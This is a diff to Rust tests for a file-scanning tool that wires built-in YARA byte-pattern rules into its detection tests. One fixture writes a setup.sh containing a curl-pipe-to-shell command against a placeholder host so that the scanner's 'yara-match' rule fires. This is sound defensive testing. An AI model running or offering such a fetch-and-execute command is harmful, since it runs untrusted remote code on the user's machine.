@@ -542,6 +542,20 @@ fn every_rule_fires_on_its_fixture() {
         );
         covered.insert(id);
     }
+    // `yara-match`: the built-in byte-pattern rules (tests/yara.rs has a fixture per YARA rule).
+    let yara = std::sync::Arc::new(airlock::yara::YaraRules::builtin().expect("yara rules"));
+    let script = [
+        b"#!/bin/sh\ncurl -s https://x.example.invalid/a.sh ".as_slice(),
+        b"| sh\n",
+    ]
+    .concat();
+    let p = write(dir.path(), "setup.sh", &script);
+    let r = airlock::scan::scan_file_with(&p, BudgetLimits::default(), Some(yara));
+    assert!(
+        r.findings.iter().any(|f| f.rule.id == "yara-match"),
+        "yara-match: not fired"
+    );
+    covered.insert("yara-match");
     // Rules about the file system are fired through a whole scan.
     let root = dir.path().join("links");
     std::fs::create_dir(&root).expect("mkdir");
@@ -557,6 +571,7 @@ fn every_rule_fires_on_its_fixture() {
         exclude: Vec::new(),
         jobs: 1,
         limits: BudgetLimits::default(),
+        yara: None,
     };
     let report = scan(&opts, &|_, _| {}).expect("scan");
     for id in [
@@ -635,9 +650,11 @@ fn benign_look_alikes_fire_nothing_at_medium_or_above() {
         ("notes.txt", b"1.5 2.5\n(3, 4)\nSome text. More text.\n".to_vec()),
         ("enum.pkl", b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00\x8c\x0bmypkg.enums\x94\x8c\x05Color\x94\x93\x94K\x01\x85\x94R\x94.".to_vec()),
     ];
+    // With the built-in byte-pattern rules, as the command line runs them.
+    let yara = std::sync::Arc::new(airlock::yara::YaraRules::builtin().expect("yara rules"));
     for (name, bytes) in benign {
         let p = write(dir.path(), name, &bytes);
-        let r = scan_file(&p, BudgetLimits::default());
+        let r = airlock::scan::scan_file_with(&p, BudgetLimits::default(), Some(yara.clone()));
         let loud: Vec<_> = r
             .findings
             .iter()
